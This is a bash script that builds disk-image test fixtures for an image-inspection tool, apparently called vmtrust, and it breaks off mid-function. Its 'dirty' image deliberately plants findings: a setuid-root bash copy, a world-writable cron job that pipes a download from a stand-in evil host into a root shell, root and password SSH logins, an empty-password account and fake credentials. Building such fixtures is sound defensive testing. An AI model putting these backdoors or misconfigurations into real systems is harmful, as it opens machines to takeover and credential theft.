#!/usr/bin/env bash
# scripts/fixtures.sh — build the real disk images vmtrust's image-inspection
# tests read (make fixtures; run as root).
#
# Output: ${VMTRUST_FIXTURES:-/var/cache/vmtrust/fixtures}/<recipe>/, where
# <recipe> is the first 16 hex digits of the sha256 of this file. The Go side
# (internal/vmtest.Fixtures) computes the same name, so editing this script
# means a rebuild, and a build is never reused for a different recipe.
#
# Contents of a fixture directory (manifest.json lists every file with its
# sha256, size and a description):
#   rootfs/debian12-clean, rootfs/debian12-dirty, rootfs/rocky-rpm
#                         the trees the images were made from
#   debian12-*.raw|qcow2|vmdk, overlay.qcow2, rocky-rpm.qcow2   the images
#   expected/             answers computed from the trees by the real tools
#                         (dpkg-query, rpm, sfdisk), and the planted findings
#
# Guarantees: idempotent (a second run with the same recipe only checks and
# takes well under a second); atomic (the build goes to a temporary directory
# beside the result and is renamed at the end, so a killed build leaves no half
# fixture); serialised by a lock file; older recipe directories are removed.
# Nothing from the host ends up in the trees: /etc/hostname, /etc/hosts and
# /etc/resolv.conf are overwritten, and every planted secret is fake.
#
# Network: debootstrap downloads Debian bookworm from the Debian mirror in the
# machine's apt sources (override: VMTRUST_DEBIAN_MIRROR). Downloaded .debs are
# kept in <base>/.debs, so a rebuild after a recipe change downloads nothing new.
#
# Environment:
#   VMTRUST_FIXTURES       base directory (default /var/cache/vmtrust/fixtures)
#   VMTRUST_DEBIAN_MIRROR  Debian mirror URL (default: from /etc/apt/sources*)
#
# Logs go to stderr; the last line on stdout is the fixture directory.
set -euo pipefail
umask 022
export LC_ALL=C
export PATH=$PATH:/usr/sbin:/sbin # mkfs.*, sfdisk, debootstrap

log() { printf 'fixtures: %s\n' "$*" >&2; }
die() {
	printf 'fixtures: ERROR: %s\n' "$*" >&2
	exit 1
}

script=$(readlink -f -- "${BASH_SOURCE[0]}")
recipe=$(sha256sum -- "$script" | cut -c1-16)
base=${VMTRUST_FIXTURES:-/var/cache/vmtrust/fixtures}
out=$base/$recipe
start=$SECONDS

# Every ext4/XFS file system gets the same UUID, and mkfs.ext4 a fixed time:
# rebuilds are comparable, and the dirty ext4 (made from the clean one with
# debugfs, see img_dirty_derived) shares its metadata checksum seed.
export E2FSPROGS_FAKE_TIME=1700000000
FS_UUID=6f1e3c2a-7b5d-4e8f-9a0b-1c2d3e4f5a6b
FS_SIZE_MIB=1024
MIB=1048576

# --- cleanup helpers -----------------------------------------------------------

# remove_tree DIR removes DIR after unmounting anything mounted below it (a
# killed debootstrap can leave /proc, /sys or bind-mounted /dev nodes behind;
# rm -rf across those would delete host files). rm never crosses filesystems.
remove_tree() {
	local dir=$1 mnt
	[ -e "$dir" ] || return 0
	dir=$(readlink -f -- "$dir")
	# mountinfo field 5 is the mount point (octal-escaped); deepest first.
	while read -r mnt; do
		mnt=$(printf '%b' "$mnt")
		case $mnt in "$dir"/*) umount -l -- "$mnt" || die "cannot unmount $mnt (below $dir); remove it by hand" ;; esac
	done < <(awk '{print $5}' /proc/self/mountinfo | sort -r)
	rm -rf --one-file-system -- "$dir"
}

# Only directories named like a recipe (16 hex digits) or our own temporary
# build directories are ever removed from the base directory.
remove_old_recipes() {
	local d name
	for d in "$base"/* "$base"/.build-*; do
		[ -d "$d" ] || continue
		name=${d##*/}
		[ "$name" = "$recipe" ] && continue
		if [[ $name =~ ^[0-9a-f]{16}$ || $name =~ ^\.build- ]]; then
			log "removing old fixture directory $d"
			remove_tree "$d"
		fi
	done
}

# --- fast path: already built ------------------------------------------------------

if [ -f "$out/manifest.json" ]; then
	log "fixtures for recipe $recipe are up to date"
	if [ -w "$base" ] && exec 9>>"$base/.lock" && flock -n 9; then
		remove_old_recipes
	fi
	printf '%s\n' "$out"
	exit 0
fi

# --- preflight -------------------------------------------------------------------

[ "$(id -u)" -eq 0 ] || die "fixtures for recipe $recipe are not built, and building them needs root (debootstrap, chroot, device nodes, file ownership): run 'sudo make fixtures' (scripts/fixtures.sh)"

need() { # need PACKAGE COMMAND...
	local pkg=$1 c
	shift
	for c in "$@"; do
		command -v "$c" >/dev/null 2>&1 || die "$c is missing: install the Debian package $pkg (apt-get install -y --no-install-recommends $pkg, or make setup)"
	done
}
need debootstrap debootstrap
need e2fsprogs mkfs.ext4 e2fsck
need xfsprogs mkfs.xfs xfs_db xfs_repair
need qemu-utils qemu-img qemu-io
need fdisk sfdisk
need dosfstools mkfs.fat
need rpm rpm rpmbuild
need openssl openssl
need openssh-client ssh-keygen
need dpkg dpkg-query
need perl perl
need util-linux flock

# debian_mirror prints the first Debian mirror of the apt sources that serves
# bookworm: one-line entries (sources.list, *.list), then deb822 stanzas
# (*.sources). Plain POSIX awk: Debian's default awk is mawk.
debian_mirror() {
	local f m
	for f in /etc/apt/sources.list /etc/apt/sources.list.d/*.list; do
		[ -f "$f" ] || continue
		# deb [options] URI SUITE COMPONENTS...
		m=$(awk '$1 == "deb" {
			i = 2
			if ($i ~ /^\[/) { while (i <= NF && $i !~ /\]$/) i++; i++ }
			if ($(i + 1) == "bookworm") { print $i; exit }
		}' "$f")
		[ -z "$m" ] || { printf '%s\n' "$m"; return 0; }
	done
	for f in /etc/apt/sources.list.d/*.sources; do
		[ -f "$f" ] || continue
		m=$(awk '
			function stanza() {
				if (f["types"] ~ /(^| )deb( |$)/ && f["suites"] ~ /(^| )bookworm( |$)/ && tolower(f["enabled"]) != "no") {
					split(f["uris"], u, " "); print u[1]; found = 1; exit
				}
				split("", f)
			}
			/^[ \t]*$/ { stanza(); next }
			/^#/ || /^[ \t]/ { next } # comments, continuation lines
			{ key = tolower($1); sub(/:$/, "", key); val = $0; sub(/^[^:]*:[ \t]*/, "", val); f[key] = val }
			END { if (!found) stanza() }
		' "$f")
		[ -z "$m" ] || { printf '%s\n' "$m"; return 0; }
	done
}
mirror=${VMTRUST_DEBIAN_MIRROR:-$(debian_mirror)}
[ -n "$mirror" ] || die "no Debian mirror serving bookworm found in /etc/apt/sources.list or /etc/apt/sources.list.d/*.sources: set VMTRUST_DEBIAN_MIRROR"

mkdir -p "$base"
exec 9>>"$base/.lock"
if ! flock -n 9; then
	log "another fixtures build holds $base/.lock; waiting for it"
	flock 9
fi
if [ -f "$out/manifest.json" ]; then # built while we waited
	log "fixtures for recipe $recipe were built by another run"
	printf '%s\n' "$out"
	exit 0
fi
remove_old_recipes # also stale .build-* directories of killed runs

declare -A job_name=() # running jobs: pid -> name
tmp=$(mktemp -d "$base/.build-$recipe.XXXXXX")
chmod 755 "$tmp" # readable by tests that do not run as root
cleanup() {
	local rc=$? pid
	# Each job is its own process group (see pool_run): stop all of it.
	for pid in "${!job_name[@]}"; do
		kill -TERM -- "-$pid" 2>/dev/null || true
	done
	wait 2>/dev/null || true
	remove_tree "$tmp"
	[ "$rc" -eq 0 ] || log "build failed after $((SECONDS - start))s (exit $rc); nothing was left behind"
}
trap cleanup EXIT
trap 'exit 130' INT TERM HUP

work=$tmp/work        # scratch space, removed before the rename
mkdir -p "$work" "$tmp/rootfs" "$tmp/expected"
log "building recipe $recipe in $tmp (mirror $mirror, $(nproc) cores)"

stage_start=$SECONDS
# stage logs the wall time and the CPU time of finished child processes.
# (/proc/PID/stat fields 16 and 17: cutime and cstime, in clock ticks; read
# in this shell, as a $(subshell) would count its own children.)
hz=$(getconf CLK_TCK)
stage() {
	local st
	read -r -a st <"/proc/$$/stat"
	log "[$((SECONDS - start))s wall, children cpu user $((st[15] / hz))s sys $((st[16] / hz))s] $* (previous stage took $((SECONDS - stage_start))s)"
	stage_start=$SECONDS
}

# --- a small job pool: at most $(nproc) jobs, each logging to its own file ---------

max_jobs=$(nproc)
job_failed=()
# pool_run NAME FUNCTION ARGS... runs FUNCTION in the background, in a process
# group of its own (set -m) so that cleanup can stop it with all its children.
pool_run() {
	local name=$1
	shift
	while [ "$(jobs -pr | wc -l)" -ge "$max_jobs" ]; do pool_reap_one; done
	set -m
	("$@") >"$work/$name.log" 2>&1 &
	set +m
	job_name[$!]=$name
}
pool_reap_one() {
	local pid rc=0
	wait -n -p pid || rc=$?
	[ -n "${pid:-}" ] || die "job pool: lost track of ${!job_name[*]}"
	if [ "$rc" -ne 0 ]; then
		job_failed+=("${job_name[$pid]}")
		log "job ${job_name[$pid]} failed (exit $rc); its log:"
		tail -n 30 "$work/${job_name[$pid]}.log" >&2 || true
	fi
	unset "job_name[$pid]"
}
pool_wait() {
	while [ "${#job_name[@]}" -gt 0 ]; do pool_reap_one; done
	[ "${#job_failed[@]}" -eq 0 ] || die "failed: ${job_failed[*]}"
}

# --- 1. Debian roots -----------------------------------------------------------------

DEB_INCLUDE=openssh-server,rsyslog,cron,sudo,ca-certificates,linux-image-cloud-amd64

build_debian_base() {
	mkdir -p "$base/.debs" "$work/base/etc/dpkg/dpkg.cfg.d"
	# dpkg without fsync while building (as mmdebstrap does); removed below.
	echo force-unsafe-io >"$work/base/etc/dpkg/dpkg.cfg.d/vmtrust-fixtures-unsafe-io"
	# INITRD=No: the kernel's postinst hook skips update-initramfs (the slowest
	# step of the build; nothing reads an initrd offline).
	INITRD=No debootstrap --variant=minbase --cache-dir="$base/.debs" \
		--include="$DEB_INCLUDE" bookworm "$work/base" "$mirror"
	rm "$work/base/etc/dpkg/dpkg.cfg.d/vmtrust-fixtures-unsafe-io"
	# What a cloud image build does at the end: no package cache, no lists.
	rm -rf "$work/base"/var/cache/apt/archives/*.deb "$work/base"/var/cache/apt/*.bin
	find "$work/base/var/lib/apt/lists" -maxdepth 1 -type f ! -name lock -delete
	# Never ship the build host's name or resolver.
	printf 'nameserver 192.0.2.53\n' >"$work/base/etc/resolv.conf"
	printf '127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost ip6-loopback\n' >"$work/base/etc/hosts"
}

set_sshd() { # set_sshd ROOT KEY VALUE: replace the (commented) default line
	local conf=$1/etc/ssh/sshd_config
	sed -i -E "s/^#?$2[[:space:]].*/$2 $3/" "$conf"
	[ "$(grep -cE "^$2 $3\$" "$conf")" -eq 1 ] || die "sshd_config: setting $2 $3 failed"
}

customize_clean() {
	local r=$1
	echo debian12-clean >"$r/etc/hostname"
	printf '127.0.1.1\tdebian12-clean\n' >>"$r/etc/hosts"
	rm -f "$r"/etc/ssh/ssh_host_*
	set_sshd "$r" PermitRootLogin no
	set_sshd "$r" PasswordAuthentication no
	printf '# Forward everything to the site log host (TCP).\n*.* @@loghost.example.org:514\n' >"$r/etc/rsyslog.d/90-remote.conf"
	# No account may have a usable password: every hash field is * or !...
	awk -F: '$2 !~ /^[*!]/ { print "account " $1 " has a password field: " $2; bad = 1 } END { exit bad }' "$r/etc/shadow" ||
		die "clean root: unexpected password"
}

# Fake secrets: all obviously examples.
AWS_KEY_ID=AKIAIOSFODNN7EXAMPLE
AWS_SECRET=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
ALICE_PASSWORD=alice-EXAMPLE-password

customize_dirty() {
	local r=$1 k=$work/keys
	mkdir -p "$k"
	echo debian12-dirty >"$r/etc/hostname"
	printf '127.0.1.1\tdebian12-dirty\n' >>"$r/etc/hosts"
	# SSH host keys from openssh-server's postinst stay. Root and password logins on.
	set_sshd "$r" PermitRootLogin yes
	set_sshd "$r" PasswordAuthentication yes

	# Users: alice (uid 1000) with a real SHA-512 crypt hash, bob with an empty
	# password field and a login shell.
	local hash
	hash=$(openssl passwd -6 -salt vmtrustfixture "$ALICE_PASSWORD")
	chroot "$r" /usr/sbin/useradd -m -u 1000 -U -s /bin/bash -c 'Alice Example' -p "$hash" alice
	chroot "$r" /usr/sbin/useradd -m -u 1001 -U -s /bin/bash -c 'Bob Example' bob
	chroot "$r" /usr/bin/passwd -q -d bob
	awk -F: '$1 == "alice" && $2 ~ /^\$6\$/ { a = 1 } $1 == "bob" && $2 == "" { b = 1 } END { exit !(a && b) }' "$r/etc/shadow" ||
		die "dirty root: alice/bob shadow entries not as planned"

	# SSH keys: root's private key, authorized_keys for root and alice.
	ssh-keygen -q -t ed25519 -N '' -C 'root@debian12-dirty.example.org' -f "$k/root_ed25519"
	ssh-keygen -q -t ed25519 -N '' -C 'alice@laptop.example.org' -f "$k/alice_ed25519"
	install -d -m 700 "$r/root/.ssh"
	install -m 600 "$k/root_ed25519" "$r/root/.ssh/id_ed25519"
	install -m 644 "$k/root_ed25519.pub" "$r/root/.ssh/id_ed25519.pub"
	cat "$k/alice_ed25519.pub" "$k/root_ed25519.pub" >"$r/root/.ssh/authorized_keys"
	chmod 600 "$r/root/.ssh/authorized_keys"
	install -d -m 700 -o 1000 -g 1000 "$r/home/alice/.ssh"
	install -m 600 -o 1000 -g 1000 "$k/alice_ed25519.pub" "$r/home/alice/.ssh/authorized_keys"

	# TLS service key (PKCS#1 "RSA PRIVATE KEY") and its self-signed certificate.
	install -d -m 755 "$r/etc/pki/tls/certs"
	install -d -m 700 "$r/etc/pki/tls/private"
	openssl genrsa -traditional -out "$r/etc/pki/tls/private/service.key" 2048 2>/dev/null
	chmod 600 "$r/etc/pki/tls/private/service.key"
	openssl req -x509 -new -key "$r/etc/pki/tls/private/service.key" -days 3650 -sha256 \
		-subj '/O=Example/CN=service.debian12-dirty.example.org' -out "$r/etc/pki/tls/certs/service.pem"

	# Grid: a CA, a host certificate + PKCS#8 key, a user certificate and an
	# RFC 3820 proxy in /tmp/x509up_u1000 (proxy cert, proxy key, user cert: the
	# order voms-proxy-init writes).
	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -sha256 -subj '/DC=org/DC=example/CN=Example Grid CA EXAMPLE' \
		-keyout "$k/ca.key" -out "$k/ca.pem" 2>/dev/null
	printf '[host]\nkeyUsage=critical,digitalSignature,keyEncipherment\nextendedKeyUsage=serverAuth,clientAuth\nsubjectAltName=DNS:debian12-dirty.example.org\n' >"$k/ext.cnf"
	printf '[user]\nkeyUsage=critical,digitalSignature,keyEncipherment\nextendedKeyUsage=clientAuth\n' >>"$k/ext.cnf"
	printf '[proxy]\nkeyUsage=critical,digitalSignature,keyEncipherment\nproxyCertInfo=critical,language:id-ppl-inheritAll\n' >>"$k/ext.cnf"
	install -d -m 755 "$r/etc/grid-security"
	openssl req -new -newkey rsa:2048 -nodes -subj '/DC=org/DC=example/CN=host\/debian12-dirty.example.org' \
		-keyout "$r/etc/grid-security/hostkey.pem" -out "$k/host.csr" 2>/dev/null
	chmod 400 "$r/etc/grid-security/hostkey.pem"
	openssl x509 -req -in "$k/host.csr" -CA "$k/ca.pem" -CAkey "$k/ca.key" -set_serial 4097 -days 395 -sha256 \
		-extfile "$k/ext.cnf" -extensions host -out "$r/etc/grid-security/hostcert.pem" 2>/dev/null
	openssl req -new -newkey rsa:2048 -nodes -subj '/DC=org/DC=example/OU=People/CN=Alice Example' \
		-keyout "$k/user.key" -out "$k/user.csr" 2>/dev/null
	openssl x509 -req -in "$k/user.csr" -CA "$k/ca.pem" -CAkey "$k/ca.key" -set_serial 4098 -days 395 -sha256 \
		-extfile "$k/ext.cnf" -extensions user -out "$k/user.pem" 2>/dev/null
	openssl req -new -newkey rsa:2048 -nodes -subj '/DC=org/DC=example/OU=People/CN=Alice Example/CN=1234567890' \
		-keyout "$k/proxy.key" -out "$k/proxy.csr" 2>/dev/null
	openssl x509 -req -in "$k/proxy.csr" -CA "$k/user.pem" -CAkey "$k/user.key" -set_serial 1234567890 -days 1 -sha256 \
		-extfile "$k/ext.cnf" -extensions proxy -out "$k/proxy.pem" 2>/dev/null
	cat "$k/proxy.pem" "$k/proxy.key" "$k/user.pem" >"$r/tmp/x509up_u1000"
	chown 1000:1000 "$r/tmp/x509up_u1000"
	chmod 600 "$r/tmp/x509up_u1000"

	# A setuid-root shell and a world-writable cron job.
	# (usr/bin, not bin: never follow a guest symlink on the host.)
	[ -f "$r/usr/bin/bash" ] && [ ! -L "$r/usr/bin/bash" ] || die "dirty root: usr/bin/bash is not a regular file"
	install -m 4755 -o 0 -g 0 "$r/usr/bin/bash" "$r/usr/local/bin/rootsh"
	printf '# installed by "maintenance"\n* * * * * root /usr/local/bin/rootsh -p -c "curl -s http://evil.example.invalid/x | sh"\n' >"$r/etc/cron.d/backdoor"
	chmod 666 "$r/etc/cron.d/backdoor"

	# Credentials in dotfiles and shell history.
	printf 'machine ftp.example.org\n  login admin\n  password EXAMPLE-netrc-password\n' >"$r/root/.netrc"
	chmod 600 "$r/root/.netrc"
	install -d -m 700 -o 1000 -g 1000 "$r/home/alice/.aws" "$r/home/alice/.docker"
	printf '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\nregion = eu-west-1\n' "$AWS_KEY_ID" "$AWS_SECRET" >"$r/home/alice/.aws/credentials"
	printf '{\n\t"auths": {\n\t\t"registry.example.org": {\n\t\t\t"auth": "%s"\n\t\t}\n\t}\n}\n' "$(printf 'alice:EXAMPLE-docker-password' | base64 -w0)" >"$r/home/alice/.docker/config.json"
	chown 1000:1000 "$r/home/alice/.aws/credentials" "$r/home/alice/.docker/config.json"
	chmod 600 "$r/home/alice/.aws/credentials" "$r/home/alice/.docker/config.json"
	printf 'ls -la\nexport AWS_SECRET_ACCESS_KEY=%s\naws s3 ls\nmysql -u root -pSecret123\nhistory -c\n' "$AWS_SECRET" >"$r/root/.bash_history"
	chmod 600 "$r/root/.bash_history"
}

# The planted findings, for tests: path, kind, note (tab-separated).
write_planted() {
	cat <<-'EOF'
		/etc/ssh/ssh_host_ecdsa_key	ssh-host-key	host private key kept in the image (openssh-server postinst)
		/etc/ssh/ssh_host_ed25519_key	ssh-host-key	host private key kept in the image (openssh-server postinst)
		/etc/ssh/ssh_host_rsa_key	ssh-host-key	host private key kept in the image (openssh-server postinst)
		/etc/ssh/sshd_config	sshd-config	PermitRootLogin yes and PasswordAuthentication yes
		/root/.ssh/authorized_keys	authorized-keys	two ed25519 keys (alice@laptop.example.org, root@debian12-dirty.example.org)
		/home/alice/.ssh/authorized_keys	authorized-keys	one ed25519 key, owned by alice (1000:1000)
		/root/.ssh/id_ed25519	private-key	OpenSSH ed25519 private key without passphrase
		/etc/pki/tls/private/service.key	private-key	PEM PKCS#1 RSA 2048 key (BEGIN RSA PRIVATE KEY)
		/etc/pki/tls/certs/service.pem	certificate	self-signed, CN=service.debian12-dirty.example.org, 3650 days
		/etc/grid-security/hostcert.pem	certificate	grid host certificate, CN=host/debian12-dirty.example.org, issued by Example Grid CA EXAMPLE
		/etc/grid-security/hostkey.pem	private-key	PEM PKCS#8 RSA 2048 key (BEGIN PRIVATE KEY), mode 0400
		/tmp/x509up_u1000	grid-proxy	RFC 3820 proxy cert + unencrypted key + user cert, owner alice, mode 0600
		/etc/shadow	password-hash	alice has a SHA-512 crypt hash ($6$vmtrustfixture$...)
		/etc/shadow	empty-password	bob (uid 1001, /bin/bash) has an empty password field
		/usr/local/bin/rootsh	setuid	copy of bash, root:root mode 4755, owned by no package
		/etc/cron.d/backdoor	world-writable	cron job file with mode 0666
		/root/.netrc	credentials	password EXAMPLE-netrc-password for ftp.example.org
		/home/alice/.aws/credentials	credentials	AKIAIOSFODNN7EXAMPLE with its (fake) secret key
		/home/alice/.docker/config.json	credentials	auth for registry.example.org (alice:EXAMPLE-docker-password)
		/root/.bash_history	credentials	export AWS_SECRET_ACCESS_KEY=... and mysql -u root -pSecret123
		/etc/rsyslog.d	no-remote-logging	rsyslog installed with its default configuration, no forwarding
	EOF
}

dpkg_expected() { # dpkg_expected ROOT
	dpkg-query --admindir="$1/var/lib/dpkg" -W \
		-f '${Package}\t${Version}\t${Architecture}\t${source:Package}\t${source:Version}\n' | sort
}

# --- 3. RPM root (runs beside debootstrap) ----------------------------------------------

RPM_DB=/var/lib/rpm # Debian's rpm defaults to ~/.rpmdb; RHEL keeps the sqlite rpmdb here.

rpm_specs() {
	local d=$1
	# A source package whose binaries have other names (vmtrust-demo, its -libs
	# subpackage and hello-vmtrust), with an epoch.
	cat >"$d/vmtrust-demo.spec" <<-'EOF'
		Name: vmtrust-demo
		Epoch: 2
		Version: 1.2.3
		Release: 4.el9
		Summary: vmtrust fixture package
		License: MIT
		%description
		Fixture package for vmtrust's rpmdb tests.
		%package -n hello-vmtrust
		Summary: vmtrust fixture: a binary named unlike its source package
		%description -n hello-vmtrust
		A binary package of the vmtrust-demo source package.
		%package libs
		Summary: vmtrust fixture: a subpackage
		%description libs
		The -libs subpackage of vmtrust-demo.
		%install
		mkdir -p %{buildroot}/usr/bin %{buildroot}/usr/share/vmtrust-demo %{buildroot}/usr/lib64
		printf '#!/bin/sh\necho hello from vmtrust\n' > %{buildroot}/usr/bin/hello-vmtrust
		chmod 755 %{buildroot}/usr/bin/hello-vmtrust
		echo 'vmtrust fixture' > %{buildroot}/usr/share/vmtrust-demo/README
		echo 'not really a library' > %{buildroot}/usr/lib64/libvmtrust-demo.so.1
		%files
		/usr/share/vmtrust-demo/README
		%files -n hello-vmtrust
		/usr/bin/hello-vmtrust
		%files libs
		/usr/lib64/libvmtrust-demo.so.1
	EOF
	# An imitation of Rocky 9.3's openssl at a version with published advisories
	# (the EVR, names and source name match Rocky's; the content is a stub).
	cat >"$d/openssl.spec" <<-'EOF'
		Name: openssl
		Epoch: 1
		Version: 3.0.7
		Release: 24.el9
		Summary: vmtrust fixture imitating Rocky Linux 9.3 openssl
		License: ASL 2.0
		%description
		Stub with the name and version of Rocky Linux 9.3's openssl.
		%package libs
		Summary: vmtrust fixture imitating openssl-libs
		%description libs
		Stub with the name and version of Rocky Linux 9.3's openssl-libs.
		%install
		mkdir -p %{buildroot}/usr/bin %{buildroot}/usr/lib64
		printf '#!/bin/sh\necho OpenSSL 3.0.7 1 Nov 2022 fixture\n' > %{buildroot}/usr/bin/openssl
		chmod 755 %{buildroot}/usr/bin/openssl
		echo 'stub' > %{buildroot}/usr/lib64/libssl.so.3.0.7
		%files
		/usr/bin/openssl
		%files libs
		/usr/lib64/libssl.so.3.0.7
	EOF
	# The release package owns /etc/os-release (a relative symlink, as on Rocky)
	# and /etc/redhat-release; noarch.
	cat >"$d/rocky-release.spec" <<-'EOF'
		Name: rocky-release
		Version: 9.3
		Release: 1.2.el9
		Summary: vmtrust fixture imitating Rocky Linux 9.3 rocky-release
		License: BSD-3-Clause
		BuildArch: noarch
		%description
		Rocky Linux 9.3 release files.
		%install
		mkdir -p %{buildroot}/etc %{buildroot}/usr/lib
		cat > %{buildroot}/usr/lib/os-release <<'OSR'
		NAME="Rocky Linux"
		VERSION="9.3 (Blue Onyx)"
		ID="rocky"
		ID_LIKE="rhel centos fedora"
		VERSION_ID="9.3"
		PLATFORM_ID="platform:el9"
		PRETTY_NAME="Rocky Linux 9.3 (Blue Onyx)"
		ANSI_COLOR="0;32"
		LOGO="fedora-logo-icon"
		CPE_NAME="cpe:/o:rocky:rocky:9::baseos"
		HOME_URL="https://rockylinux.org/"
		BUG_REPORT_URL="https://bugs.rockylinux.org/"
		SUPPORT_END="2032-05-31"
		ROCKY_SUPPORT_PRODUCT="Rocky-Linux-9"
		ROCKY_SUPPORT_PRODUCT_VERSION="9.3"
		REDHAT_SUPPORT_PRODUCT="Rocky Linux"
		REDHAT_SUPPORT_PRODUCT_VERSION="9.3"
		OSR
		echo 'Rocky Linux release 9.3 (Blue Onyx)' > %{buildroot}/etc/rocky-release
		ln -s ../usr/lib/os-release %{buildroot}/etc/os-release
		ln -s rocky-release %{buildroot}/etc/redhat-release
		ln -s rocky-release %{buildroot}/etc/system-release
		%files
		/usr/lib/os-release
		/etc/os-release
		/etc/rocky-release
		/etc/redhat-release
		/etc/system-release
	EOF
}

build_rpm_root() {
	local w=$work/rpmbuild r=$tmp/rootfs/rocky-rpm spec
	mkdir -p "$w/SPECS" "$r"
	rpm_specs "$w/SPECS"
	for spec in "$w"/SPECS/*.spec; do
		rpmbuild -bb --quiet --define "_topdir $w" --define '_buildhost fixtures.vmtrust.example.org' \
			--define 'debug_package %{nil}' --define '__os_install_post %{nil}' "$spec"
	done
	# A minimal RHEL-like skeleton: accounts locked, as in a cloud image.
	mkdir -p "$r/etc" "$r/root" "$r/tmp" "$r/var/lib/rpm"
	printf 'root:x:0:0:root:/root:/bin/bash\nnobody:x:65534:65534:Kernel Overflow User:/:/sbin/nologin\n' >"$r/etc/passwd"
	printf 'root:x:0:\nnobody:x:65534:\n' >"$r/etc/group"
	printf 'root:!!:19676:0:99999:7:::\nnobody:*:19676:0:99999:7:::\n' >"$r/etc/shadow"
	chmod 000 "$r/etc/shadow"
	chmod 1777 "$r/tmp"
	rpm --root "$r" --dbpath "$RPM_DB" --initdb
	rpm --root "$r" --dbpath "$RPM_DB" -i --nodeps "$w"/RPMS/*/*.rpm
	[ -f "$r$RPM_DB/rpmdb.sqlite" ] || die "rpm did not write $RPM_DB/rpmdb.sqlite"
	rpm --root "$r" --dbpath "$RPM_DB" -qa --qf '%{NAME}\t%{EPOCHNUM}:%{VERSION}-%{RELEASE}\t%{ARCH}\t%{SOURCERPM}\n' |
		sort >"$tmp/expected/rocky-rpm.rpm"
	# rpm has closed the database (its write-ahead log is checkpointed and
	# empty): leave only rpmdb.sqlite, the one file readers open.
	[ ! -s "$r$RPM_DB/rpmdb.sqlite-wal" ] || die "rpmdb.sqlite-wal is not empty"
	rm -f "$r$RPM_DB/rpmdb.sqlite-shm" "$r$RPM_DB/rpmdb.sqlite-wal" "$r$RPM_DB/.rpm.lock"
	[ "$(wc -l <"$tmp/expected/rocky-rpm.rpm")" -eq 6 ] || die "rocky-rpm: expected 6 packages in the rpmdb"
	mkfs.ext4 -q -F -U "$FS_UUID" -E hash_seed="$FS_UUID" -L rocky-root -d "$r" "$work/rocky-rpm.raw" 64M
	e2fsck -fn "$work/rocky-rpm.raw" >/dev/null
	qemu-img convert -O qcow2 -c "$work/rocky-rpm.raw" "$tmp/rocky-rpm.qcow2"
	rm -f "$work/rocky-rpm.raw"
}

# --- 2. images --------------------------------------------------------------------------

mkext4() { # mkext4 ROOT IMAGE OFFSET LABEL: a FS_SIZE_MIB ext4 at OFFSET bytes
	mkfs.ext4 -q -F -U "$FS_UUID" -E "hash_seed=$FS_UUID,offset=$3" -L "$4" -d "$1" "$2" "${FS_SIZE_MIB}M"
}

img_bare() { # img_bare ROOT NAME: no partition table
	mkext4 "$1" "$work/$2.raw" 0 root
	e2fsck -fn "$work/$2.raw" >/dev/null
}

# GPT: 1 MiB BIOS-boot (dirty) or FAT EFI system partition (clean), then the
# ext4 root at 2 MiB.
img_gpt() { # img_gpt ROOT NAME bios|efi
	local img=$work/$2.raw first type
	truncate -s $(((FS_SIZE_MIB + 3) * MIB)) "$img"
	if [ "$3" = bios ]; then
		first='start=2048, size=2048, type=21686148-6E6F-744E-6565-644E65656446, uuid=11111111-1111-4111-8111-111111111111, name="bios"'
		type=0FC63DAF-8483-4772-8E79-3D69D8477DE4 # Linux filesystem
	else
		first='start=2048, size=2048, type=C12A7328-F81F-11D2-BA4B-00A0C93EC93B, uuid=22222222-2222-4222-8222-222222222222, name="EFI System"'
		type=4F68BCE3-E8CD-4C5F-9B2F-D5A32B1B4A20 # Linux root (x86-64)
	fi
	sfdisk -q "$img" <<-EOF
		label: gpt
		label-id: 0B5E55ED-0000-4000-8000-00000000F1C5
		unit: sectors
		first-lba: 2048
		$first
		start=4096, size=$((FS_SIZE_MIB * 2048)), type=$type, uuid=33333333-3333-4333-8333-333333333333, name="root"
	EOF
	[ "$3" = bios ] || mkfs.fat -F 12 -n EFI --offset 2048 "$img" 1024 >/dev/null
	mkext4 "$1" "$img" $((4096 * 512)) root
	e2fsck -fn "$img?offset=$((4096 * 512))" >/dev/null
	(cd "$work" && sfdisk -d "$2.raw") >"$tmp/expected/$2.sfdisk"
}

# MBR: a primary FAT16 partition, then an extended partition holding the root
# as logical partition 5.
img_mbr() { # img_mbr ROOT NAME
	local img=$work/$2.raw
	truncate -s $(((FS_SIZE_MIB + 11) * MIB)) "$img"
	sfdisk -q "$img" <<-EOF
		label: dos
		label-id: 0x5eedf00d
		unit: sectors
		start=2048, size=16384, type=e
		start=18432, type=5
		start=20480, size=$((FS_SIZE_MIB * 2048)), type=83
	EOF
	mkfs.fat -F 16 -s 1 -n DATA --offset 2048 "$img" 8192 >/dev/null
	mkext4 "$1" "$img" $((20480 * 512)) root
	e2fsck -fn "$img?offset=$((20480 * 512))" >/dev/null
	(cd "$work" && sfdisk -d "$2.raw") >"$tmp/expected/$2.sfdisk"
}

# tree_diff OLD NEW CMDS CHECKS DUMPDIR writes the debugfs commands that turn
# a file system made from tree OLD into one holding tree NEW (removals deepest
# first, then additions parents first; mode, owner and mtime set with sif) to
# CMDS, and to CHECKS the debugfs commands that read the result back: "dump"
# of every written file into DUMPDIR (CHECKS.files: number, source) and
# "ls -p" of every directory holding a change (CHECKS.meta: path, mode, uid,
# gid as lstat has them in NEW).
tree_diff() {
	perl -e '
		use strict; use warnings;
		my ($old, $new, $cmds, $checks, $dumpdir) = @ARGV;
		my (%o, %n);
		sub scan { my ($root, $h) = @_; my @todo = ("");
			while (@todo) { my $rel = pop @todo;
				opendir(my $dh, "$root$rel") or die "$root$rel: $!";
				for my $e (grep { $_ ne "." && $_ ne ".." } readdir($dh)) {
					my $r = "$rel/$e"; my @st = lstat("$root$r") or die "$root$r: $!";
					$h->{$r} = \@st; push @todo, $r if -d _;
				}
				closedir($dh);
			}
		}
		scan($old, \%o); scan($new, \%n);
		sub kind { my $m = $_[0][2] & 0170000; return $m }
		sub same_file { my ($a, $b) = @_;
			return 0 if ((-s $a) // 0) != ((-s $b) // 0);
			open(my $x, "<:raw", $a) or die; open(my $y, "<:raw", $b) or die;
			local $/ = \1048576;
			while (1) { my $p = <$x>; my $q = <$y>; return 1 if !defined $p && !defined $q;
				return 0 if !defined $p || !defined $q || $p ne $q }
		}
		my (@rm, @add, @meta);
